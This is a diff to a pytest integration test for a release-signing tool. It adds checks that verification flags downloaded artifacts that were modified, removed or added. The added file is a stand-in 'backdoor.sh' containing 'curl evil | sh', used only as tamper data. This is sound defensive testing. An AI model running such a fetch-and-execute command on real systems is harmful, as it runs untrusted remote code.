@@ -18,6 +18,7 @@ import base64
 import json
 import os
 import re
+import shutil
 import subprocess
 import sys
 import threading
@@ -195,10 +196,6 @@ def instance(tmp_path_factory: pytest.TempPathFactory) -> Iterator[InstanceServe
 
 def test_the_template_signs_and_uploads_in_a_simulated_gitlab_job(
         instance: InstanceServer, tmp_path: Path) -> None:
-    from sealtrail.cli.main import LAZY_COMMANDS
-
-    if "release" not in LAZY_COMMANDS:
-        pytest.skip("`sealtrail release sign` is not in this tree yet")
     registry = PackageRegistry()
     try:
         project = tmp_path / "project"
@@ -298,5 +295,25 @@ def test_the_template_signs_and_uploads_in_a_simulated_gitlab_job(
                     "--certificate-oidc-issuer", server, "--trusted-root",
                     str(instance.trusted_root), check=False)
         assert wrong.returncode == 1, wrong.stdout + wrong.stderr  # not a subject
+
+        # What a user downloads may differ from what the pipeline signed: each change is named.
+        for change, name, code in (("modify", ARTIFACTS[0], "ARTIFACT_MODIFIED"),
+                                   ("remove", ARTIFACTS[-1], "ARTIFACT_MISSING"),
+                                   ("add", "backdoor.sh", "ARTIFACT_EXTRA")):
+            changed = tmp_path / f"downloaded-{change}"
+            shutil.copytree(dist, changed)
+            if change == "modify":
+                with open(changed / name, "ab") as handle:
+                    handle.write(b"!")
+            elif change == "remove":
+                (changed / name).unlink()
+            else:
+                (changed / name).write_text("curl evil | sh\n")
+            done = run(*[str(changed) if part == str(dist) else part for part in verify],
+                       "--certificate-identity", identity, check=False)
+            assert done.returncode == 1, (change, done.stdout + done.stderr)
+            failed = {row["name"]: row["code"]
+                      for row in json.loads(done.stdout)["results"] if not row["ok"]}
+            assert failed.get(name) == code, (change, failed)
     finally:
         registry.close()
